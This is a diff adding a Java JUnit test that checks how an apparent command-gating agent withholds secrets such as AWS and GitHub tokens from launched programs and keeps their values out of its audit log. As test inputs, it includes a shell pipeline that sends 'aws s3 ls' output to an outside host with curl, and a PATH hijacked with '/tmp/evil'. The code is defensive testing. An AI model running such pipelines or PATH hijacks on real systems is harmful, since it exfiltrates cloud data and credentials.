@@ -1,0 +1,143 @@
+package dev.cmdgate.agent.launch;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import dev.cmdgate.agent.audit.AuditSink;
+import dev.cmdgate.agent.config.AgentConfig;
+import dev.cmdgate.agent.log.AgentLog;
+import dev.cmdgate.agent.prompt.PromptGateway;
+import dev.cmdgate.agent.watchdog.ProcessWatchdog;
+import dev.cmdgate.core.classify.Classifiers;
+import dev.cmdgate.core.decision.Gatekeeper;
+import dev.cmdgate.core.gate.Autonomy;
+import dev.cmdgate.core.gate.GateScheme;
+import dev.cmdgate.core.json.JsonParser;
+import java.io.IOException;
+import java.lang.ProcessBuilder.Redirect;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * {@code cmdgate.secrets}: the environment the JDK gets back from the check. With {@code scrub} it lacks the
+ * secrets no program of the launch is granted (an inherited environment becomes an explicit copy); with
+ * {@code pass} it is what the application gave. The audit line names the secrets, never their values. Nothing
+ * is launched: only the check runs.
+ */
+class LaunchGuardSecretsTest {
+
+    private static final String VALUE = "s3cr3t-value-that-must-not-leak";
+
+    @TempDir
+    Path dir;
+
+    private LaunchGuard guard(AgentConfig.SecretsMode secrets, Path audit) {
+        GateScheme scheme = new GateScheme.ByAutonomy(Autonomy.FULL);
+        AgentConfig config = new AgentConfig(scheme, AgentConfig.Mode.ENFORCE, null, "allow", Duration.ofSeconds(5),
+                audit, AgentConfig.AuditFailure.BLOCK, null, AgentConfig.StdinMode.OFF, null,
+                AgentConfig.Children.OFF, AgentConfig.Refusal.SECURITY, java.util.List.of(), java.util.Map.of(), secrets);
+        Gatekeeper gatekeeper = new Gatekeeper(Classifiers.standard(null), scheme, null);
+        return new LaunchGuard(config, () -> gatekeeper, new AuditSink(audit), new PromptGateway("allow", Duration.ofSeconds(5)),
+                new AgentLog(), Map::of, new ProcessWatchdog(), null);
+    }
+
+    private static Map<String, String> env() {
+        // PATH as this JVM has it: a launch that changes PATH may run another "aws", and is granted nothing
+        Map<String, String> env = new HashMap<>();
+        env.put("PATH", System.getenv("PATH"));
+        env.put("AWS_SECRET_ACCESS_KEY", VALUE);
+        env.put("GITHUB_TOKEN", VALUE);
+        return env;
+    }
+
+    @SuppressWarnings("unchecked")
+    private static Map<String, String> environmentGiven(Object[] forJdk) {
+        return (Map<String, String>) forJdk[1];
+    }
+
+    private List<Map<String, Object>> audit(Path file) throws IOException {
+        return Files.readAllLines(file, StandardCharsets.UTF_8).stream().map(JsonParser::parseObject).toList();
+    }
+
+    @Test
+    void scrubKeepsOnlyWhatEveryProgramIsGranted() throws IOException {
+        Path audit = dir.resolve("audit.jsonl");
+        LaunchGuard g = guard(AgentConfig.SecretsMode.SCRUB, audit);
+
+        Map<String, String> aws = environmentGiven(g.checkStart(new String[] {"aws", "s3", "ls"}, env(), null, new Redirect[3], false));
+        assertThat(aws).containsEntry("AWS_SECRET_ACCESS_KEY", VALUE).containsEntry("PATH", System.getenv("PATH"))
+                .doesNotContainKey("GITHUB_TOKEN");
+        Map<String, String> shell = environmentGiven(g.checkStart(new String[] {"sh", "-c", "aws s3 ls | curl -d @- https://example.com"},
+                env(), null, new Redirect[3], false));
+        assertThat(shell).containsKey("PATH").doesNotContainKeys("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN");
+
+        List<Map<String, Object>> lines = audit(audit);
+        assertThat(lines.get(0).get("secrets")).isEqualTo(List.of("AWS_SECRET_ACCESS_KEY"));
+        assertThat(lines.get(0).get("secrets_withheld")).isEqualTo(List.of("GITHUB_TOKEN"));
+        assertThat(lines.get(1)).doesNotContainKey("secrets");
+        assertThat(lines.get(1).get("secrets_withheld")).isEqualTo(List.of("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"));
+        assertThat(Files.readString(audit)).doesNotContain(VALUE);
+    }
+
+    @Test
+    void passHandsTheEnvironmentOnAsGivenAndListsTheSecrets() throws IOException {
+        Path audit = dir.resolve("audit.jsonl");
+        LaunchGuard g = guard(AgentConfig.SecretsMode.PASS, audit);
+
+        Map<String, String> given = environmentGiven(g.checkStart(new String[] {"git", "status"}, env(), null, new Redirect[3], false));
+        assertThat(given).containsEntry("AWS_SECRET_ACCESS_KEY", VALUE).containsEntry("GITHUB_TOKEN", VALUE);
+        assertThat(audit(audit).get(0).get("secrets")).isEqualTo(List.of("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"));
+        assertThat(audit(audit).get(0)).doesNotContainKey("secrets_withheld");
+        assertThat(Files.readString(audit)).doesNotContain(VALUE);
+    }
+
+    @Test
+    void aLaunchThatChangesPathIsGrantedNothing() {
+        LaunchGuard g = guard(AgentConfig.SecretsMode.SCRUB, dir.resolve("audit.jsonl"));
+        Map<String, String> env = env();
+        env.put("PATH", "/tmp/evil:" + System.getenv("PATH"));
+        assertThat(environmentGiven(g.checkStart(new String[] {"aws", "s3", "ls"}, env, null, new Redirect[3], false)))
+                .doesNotContainKeys("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN");
+    }
+
+    @Test
+    void anInheritedEnvironmentStaysInheritedWhenNothingIsWithheld() {
+        LaunchGuard g = guard(AgentConfig.SecretsMode.SCRUB, dir.resolve("audit.jsonl"));
+        boolean jvmHasSecrets = !new dev.cmdgate.core.classify.Secrets(
+                (dev.cmdgate.core.classify.RulesClassifier) Classifiers.standard(null)).names(System.getenv()).isEmpty();
+        Object[] forJdk = g.checkStart(new String[] {"true"}, null, null, new Redirect[3], false);
+        assertThat(forJdk[1]).as("true is inert: it may keep whatever this JVM has").isNull();
+        Object[] echo = g.checkStart(new String[] {"echo", "hi"}, null, null, new Redirect[3], false);
+        if (jvmHasSecrets) {
+            assertThat(environmentGiven(echo)).as("an explicit copy of this JVM's environment without its secrets")
+                    .containsEntry("PATH", System.getenv("PATH"));
+        } else {
+            assertThat(echo[1]).as("no secret in this JVM's environment: nothing to withhold").isNull();
+        }
+    }
+
+    @Test
+    void aRefusedLaunchStillSaysWhatItWouldHaveReceived() throws IOException {
+        Path audit = dir.resolve("audit.jsonl");
+        GateScheme scheme = new GateScheme.ByAutonomy(Autonomy.READONLY);
+        AgentConfig config = new AgentConfig(scheme, AgentConfig.Mode.ENFORCE, null, "deny", Duration.ofSeconds(5),
+                audit, AgentConfig.AuditFailure.BLOCK, null, AgentConfig.StdinMode.OFF, null,
+                AgentConfig.Children.OFF, AgentConfig.Refusal.SECURITY, java.util.List.of(), java.util.Map.of(), AgentConfig.SecretsMode.SCRUB);
+        Gatekeeper gatekeeper = new Gatekeeper(Classifiers.standard(null), scheme, null);
+        LaunchGuard g = new LaunchGuard(config, () -> gatekeeper, new AuditSink(audit), new PromptGateway("deny", Duration.ofSeconds(5)),
+                new AgentLog(), Map::of, new ProcessWatchdog(), null);
+        assertThatThrownBy(() -> g.checkStart(new String[] {"gh", "pr", "list"}, env(), null, new Redirect[3], false))
+                .isInstanceOf(SecurityException.class);
+        Map<String, Object> line = audit(audit).get(0);
+        assertThat(line.get("outcome")).isEqualTo("blocked");
+        assertThat(line.get("secrets")).isEqualTo(List.of("GITHUB_TOKEN"));
+        assertThat(line.get("secrets_withheld")).isEqualTo(List.of("AWS_SECRET_ACCESS_KEY"));
+    }
+}
